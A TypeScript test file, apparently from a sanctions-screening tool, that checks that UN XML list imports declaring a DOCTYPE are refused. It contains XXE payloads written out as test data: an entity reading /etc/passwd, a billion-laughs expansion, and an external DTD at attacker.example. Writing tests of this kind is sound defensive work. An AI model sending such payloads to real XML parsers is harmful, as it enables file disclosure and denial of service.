import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { cleanupTemp, failed, ok, openTempWorkspace, tempDir } from './helpers';
import { screeningFixture } from './screening-lists-helpers';

afterEach(cleanupTemp);

const counts = (db: import('better-sqlite3').Database) =>
  db.prepare("SELECT (SELECT count(*) FROM screening_snapshots) AS snapshots, (SELECT count(*) FROM screening_entries) AS entries, (SELECT count(*) FROM audit_log) AS audit").get();

function writeTemp(name: string, content: string): string {
  const file = path.join(tempDir(), name);
  fs.writeFileSync(file, content);
  return file;
}

const UN_BODY = `<CONSOLIDATED_LIST dateGenerated="2026-02-27T00:00:00Z">
  <INDIVIDUALS>
    <INDIVIDUAL>
      <DATAID>1</DATAID>
      <FIRST_NAME>&xxe;</FIRST_NAME>
      <REFERENCE_NUMBER>X.001</REFERENCE_NUMBER>
    </INDIVIDUAL>
  </INDIVIDUALS>
  <ENTITIES/>
</CONSOLIDATED_LIST>
`;

describe('a UN XML list that declares entities is refused as a bad file, never resolved', () => {
  const cases: { what: string; xml: string; line: number }[] = [
    {
      what: 'an external entity reading /etc/passwd',
      xml: `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE CONSOLIDATED_LIST [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n${UN_BODY}`,
      line: 2,
    },
    {
      what: 'a billion-laughs internal entity',
      xml:
        `<?xml version="1.0"?>\n\n<!DOCTYPE CONSOLIDATED_LIST [\n <!ENTITY lol "lol">\n` +
        Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">\n`).join('') +
        ` <!ENTITY xxe "&lol9;">\n]>\n${UN_BODY}`,
      line: 3,
    },
    {
      what: 'an external DTD',
      xml: `<?xml version="1.0"?>\n<!DOCTYPE CONSOLIDATED_LIST SYSTEM "http://attacker.example/un.dtd">\n${UN_BODY.replace('&xxe;', 'NAME')}`,
      line: 2,
    },
  ];
  for (const c of cases) {
    it(c.what, async () => {
      const ws = openTempWorkspace();
      ok(await ws.core.call('lists.import', { source: { path: screeningFixture('watch-list.csv') } }));
      const before = counts(ws.db);
      const err = failed(await ws.core.call('lists.import', { source: { path: writeTemp('consolidated.xml', c.xml) } }));
      expect(err).toMatchObject({ code: 'BAD_FILE', file: 'consolidated.xml', line: c.line });
      expect(err.message).toMatch(new RegExp(`^consolidated\\.xml, line ${c.line}: the file declares a document type \\(<!DOCTYPE\\)`));
      expect(err.message).not.toMatch(/root:|at |Error|entit(y|ies) are not supported/);
      expect(counts(ws.db)).toEqual(before);
    });
  }
});
